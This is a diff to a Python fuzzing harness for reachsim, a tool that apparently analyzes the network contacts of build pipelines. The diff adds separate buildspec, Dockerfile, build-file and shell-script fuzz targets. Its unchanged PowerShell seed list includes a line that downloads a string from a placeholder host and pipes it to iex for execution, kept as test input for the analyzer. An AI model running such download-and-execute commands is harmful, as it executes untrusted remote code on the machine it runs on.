@@ -27,7 +27,7 @@ from reachsim.importers import (
     import_terraform,
 )
 from reachsim.patch import apply, read_patch
-from reachsim.pipeline import powershell
+from reachsim.pipeline import buildspec, powershell
 from reachsim.pipeline.contacts import contacts_of
 from reachsim.policy.lint import lint
 from reachsim.snapshot import Snapshot, open_snapshot
@@ -222,6 +222,41 @@ def run_build(path: str, data: bytes) -> None:
     contacts_of(files["buildspec.yml"], files)
 
 
+def part(path: str) -> str:
+    """The target that a file of a build belongs to."""
+    name = path.rpartition("/")[2]
+    return "buildspec" if name == "buildspec.yml" else "dockerfile" if name in DOCKERFILES else "build-files"
+
+
+DOCKERFILES = ("Dockerfile", "Containerfile", "app.Dockerfile", "base.Dockerfile", "Dockerfile.mirror")
+
+
+def build_files(wanted: str) -> list[Seed]:
+    return [
+        (f"{case}/{path}", data) for case, files in builds().items() for path, data in files.items()
+        if part(path) == wanted
+    ]  # fmt: skip
+
+
+CALLING = b"version: 0.2\nphases:\n  build:\n    commands:\n      - bash script.sh\n"
+
+
+def run_shell(_: str, data: bytes) -> None:
+    contacts_of(CALLING, {"script.sh": data})
+
+
+def scripts() -> list[Seed]:
+    """The shell scripts of the builds and, one script for each buildspec, their commands."""
+    found = [data for files in builds().values() for path, data in files.items() if path.endswith(".sh")]
+    for files in builds().values():
+        try:
+            phases = buildspec.parse(files["buildspec.yml"]).phases
+        except ReachsimError:
+            continue
+        found.append("\n".join(text for phase in phases for text, _ in phase.commands).encode())
+    return [("", one) for one in found]
+
+
 POWERSHELL = (
     b"$u = 'https://a.example.com/x'; Invoke-WebRequest -Uri $u -OutFile x\nif ($env:X) { choco install -y nodejs }\n",
     b'(New-Object Net.WebClient).DownloadString("https://b.example.com/$env:X") | iex\nInstall-Module Pester -Force\n',
@@ -336,8 +371,10 @@ TARGETS: dict[str, Target] = {
     "patch": Target(run_patch, patches),
     "policy": Target(run_policy, policies),
     "evaluate": Target(run_evaluate, cases),
-    "build": Target(run_build, lambda: [(f"{case}/{path}", data) for case, files in builds().items()
-                                        for path, data in files.items()]),
+    "buildspec": Target(run_build, lambda: build_files("buildspec")),
+    "dockerfile": Target(run_build, lambda: build_files("dockerfile")),
+    "build-files": Target(run_build, lambda: build_files("build-files")),
+    "shell": Target(run_shell, scripts),
     "powershell": Target(run_powershell, lambda: [("", one) for one in POWERSHELL]),
     "log": Target(run_log, lambda: [("", data) for data in tree(ROOT / "tests/diagnose/logs").values()]),
     "terraform": Target(run_terraform, plans),
